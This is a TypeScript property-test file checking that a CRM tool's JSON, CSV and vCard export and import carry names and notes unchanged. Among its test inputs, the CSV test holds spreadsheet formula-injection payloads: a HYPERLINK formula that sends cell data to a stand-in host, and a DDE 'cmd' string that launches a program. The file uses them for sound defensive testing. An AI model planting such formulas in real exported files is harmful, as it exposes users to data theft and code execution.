// Property tests of stored text through crm export and crm import, end to end: random names and
// notes (the same mix as text.test.ts) come out of one binder and into a fresh one unchanged, and
// so does a 1 MB note of random multi-script text. Each run spawns the built CLI several times.
import { join } from 'node:path';
import fc from 'fast-check';
import './seed.js';
import { describe, expect, it } from 'vitest';
import { tempBinder, type Binder } from '../e2e/cli.js';
import { ON_SERVER } from '../e2e/server-binder.js';
import { ok, type ShowJson } from '../e2e/support.js';
import { handle, name, note, piece, today, when } from './stored-text.js';

interface ExportJson {
  dossiers: { handle: string; name: string; history: { kind: string; note: string | null }[] }[];
}

/** Runs `check` with fresh binders on `day`, and removes them whatever happens. */
function withBinders(day: string, count: number, check: (...binders: Binder[]) => void): void {
  const binders = Array.from({ length: count }, () => tempBinder(day));
  try {
    check(...binders);
  } finally {
    for (const binder of binders) binder.remove();
  }
}

/**
 * crm export of `from`, imported into the empty binder `into`, exported again: the same bytes, and
 * crm show --json of `handle` the same in both. Returns the export.
 */
function expectRoundTrip(from: Binder, into: Binder, handle: string): string {
  const exported = ok(from, ['export']);
  ok(into, ['import', '-'], { input: exported });
  expect(ok(into, ['export']) === exported, 'export, import into an empty binder, export again: the same bytes').toBe(true);
  expect(into.json<ShowJson>(['show', handle])).toEqual(from.json<ShowJson>(['show', handle]));
  return exported;
}

describe('names and notes through export and import', () => {
  it('crm export, crm import into a fresh binder, crm export again: byte-identical, show --json equal, names and notes as typed (20 runs)', () => {
    fc.assert(
      fc.property(
        handle,
        name.filter((n) => n.trim() !== '' && n.trim().length <= 200),
        note,
        fc.array(fc.tuple(note, when), { minLength: 1, maxLength: 2 }),
        today,
        (h, typed, filedNote, logs, day) =>
          withBinders(day, 2, (from, into) => {
            ok(from, ['file', h, 'tomorrow', '--name', typed, '--note', filedNote]);
            for (const [said, next] of logs) ok(from, ['log', h, '--note', said, '--next', next]);
            const exported = JSON.parse(expectRoundTrip(from, into, h)) as ExportJson;
            const [dossier] = exported.dossiers;
            expect(dossier?.name).toBe(typed.trim());
            const notes = dossier?.history.filter((entry) => entry.kind === 'note' || entry.kind === 'call').map((entry) => entry.note);
            expect(notes).toEqual([filedNote, ...logs.map(([said]) => said)]);
          }),
      ),
      { numRuns: 20 },
    );
  }, 120_000);

  it('crm export --format csv and --format vcard, imported into a fresh binder: every card field as typed, formula-like text included (30 runs)', () => {
    // What a spreadsheet would run (=, +, -, @ first) and what crm's export puts before it (').
    const formulaLike = fc.tuple(fc.constantFrom('=', '+', '-', '@', "'", "''=", '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0"), note).map(([start, rest]) => start + rest);
    // Text these two formats can carry: no control characters but tab and newline (a vCard value
    // cannot hold them, RFC 6350, and crm leaves them out: test/unit/vcard.test.ts; the JSON export
    // above carries them), and no carriage return, which a spreadsheet's line ends turn into LF.
    // eslint-disable-next-line no-control-regex -- control characters are what this removes
    const carried = (t: string) => t.replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '');
    // A card field as crm keeps it: one line, trimmed.
    const field = fc.oneof(note, formulaLike).map((t) => carried(t).replace(/[\n\u2028\u0085]+/g, ' ').trim()).filter((t) => t !== '' && t.length <= 200);
    const card = fc.record({ name: field, company: field, position: field, notes: fc.oneof(note, formulaLike).map((t) => carried(t).trim()).filter((t) => t !== '') });
    fc.assert(
      fc.property(handle, card, today, (h, typed, day) =>
        withBinders(day, 3, (from, viaCsv, viaVcard) => {
          ok(from, ['file', h, 'tomorrow', '--name', typed.name, '--company', typed.company, '--position', typed.position, '--notes', typed.notes]);
          const shown = from.json<ShowJson & typeof typed>(['show', h]);
          expect({ name: shown.name, company: shown.company, position: shown.position, notes: shown.notes }).toEqual(typed);
          for (const [format, into] of [['csv', viaCsv], ['vcard', viaVcard]] as const) {
            const file = join(into.dir, `clients.${format === 'csv' ? 'csv' : 'vcf'}`);
            ok(from, ['export', '--format', format, '-o', file]);
            ok(into, ['import', file]);
            const back = into.json<ShowJson & typeof typed>(['show', h]);
            expect({ name: back.name, company: back.company, position: back.position, notes: back.notes }, `through ${format}`).toEqual(typed);
            expect(back.filedOn, `the filing through ${format}`).toBe(shown.filedOn);
          }
        }),
      ),
      { numRuns: 30 },
    );
  }, 180_000);

  // A note that long cannot be a command-line argument (Linux takes at most 128 KiB in one), so it
  // goes in as `crm log --note -` does, through standard input, where NUL can come along too.
  // Shrinking would spawn crm again for each smaller try, so a failure is reported as it is found:
  // the counterexample is the recipe below, which rebuilds the note.
  it('a 1 MB note of random multi-script text (NUL and blank stretches included) is logged, shown, exported and imported whole (3 runs)', () => {
    const recipe = fc.record({
      pieces: fc.array(fc.oneof(piece, fc.constant('\u0000')), { minLength: 20, maxLength: 120 }),
      seed: fc.integer({ min: 1, max: 0x7fffffff }),
      // A stretch of blank space somewhere in the note, as in a pasted mail's padding.
      blank: fc.oneof(fc.constant(0), fc.integer({ min: 1, max: 300_000 })),
      day: today,
    });
    fc.assert(
      fc.property(recipe, ({ pieces, seed, blank, day }) =>
        withBinders(day, 2, (from, into) => {
          const typed = megabyteNote(pieces, seed, blank);
          // A million code points of many scripts are 2-4 MB of UTF-8, over the default limit of a
          // note (1 MB, crm config note-limit): what is tested here is that a note of any size the
          // binder takes comes through whole, so the limit is raised to take it.
          ok(from, ['config', 'note-limit', '4MB']);
          ok(from, ['file', 'big', 'tomorrow', '--name', 'Anna Nowak']);
          // PostgreSQL's text cannot hold NUL (README, "A binder on a server"): a server binder
          // refuses the note whole (exit 2, nothing written), and takes it with each NUL made U+2400 (␀).
          if (ON_SERVER && typed.includes('\u0000')) {
            const before = from.dump();
            const result = from.crm(['log', 'big', '--note', '-', '--next', 'fri'], { input: typed });
            expect(result).toEqual({ stdout: '', stderr: expect.stringContaining('cannot store text holding the character U+0000 (NUL)') as string, code: 2 });
            expect(from.dump() === before, 'nothing written').toBe(true);
          }
          const text = ON_SERVER ? typed.replaceAll('\u0000', '\u2400') : typed;
          ok(from, ['log', 'big', '--note', '-', '--next', 'fri'], { input: text });
          const shown = from.json<ShowJson>(['show', 'big']);
          const logged = shown.history.find((entry) => entry.kind === 'call');
          expect(logged?.note?.length, 'the length of the note shown').toBe(text.length);
          expect(logged?.note === text, 'the note shown is the note logged').toBe(true);
          const exported = JSON.parse(expectRoundTrip(from, into, 'big')) as ExportJson;
          expect(exported.dossiers[0]?.history.find((entry) => entry.kind === 'call')?.note === text, 'the note exported').toBe(true);
        }),
      ),
      { numRuns: 3, endOnFailure: true },
    );
  }, 300_000);
});

/**
 * 1,000,000 code points of the pieces in a random order (a small LCG seeded by `seed`), with a
 * run of `blank` spaces, tabs and newlines in the middle. It ends in a visible character: crm log
 * --note - drops trailing whitespace from standard input, as from a terminal's last Enter.
 */
function megabyteNote(pieces: string[], seed: number, blank: number): string {
  const SIZE = 1_000_000;
  let state = seed;
  const next = () => (state = (state * 48_271) % 0x7fffffff);
  const chars: string[] = [];
  while (chars.length < SIZE / 2) chars.push(...(pieces[next() % pieces.length] as string));
  for (let i = 0; i < blank; i++) chars.push(' \t\n'[next() % 3] as string);
  while (chars.length < SIZE - 1) chars.push(...(pieces[next() % pieces.length] as string));
  chars.length = SIZE - 1;
  chars.push('∎');
  return chars.join('');
}
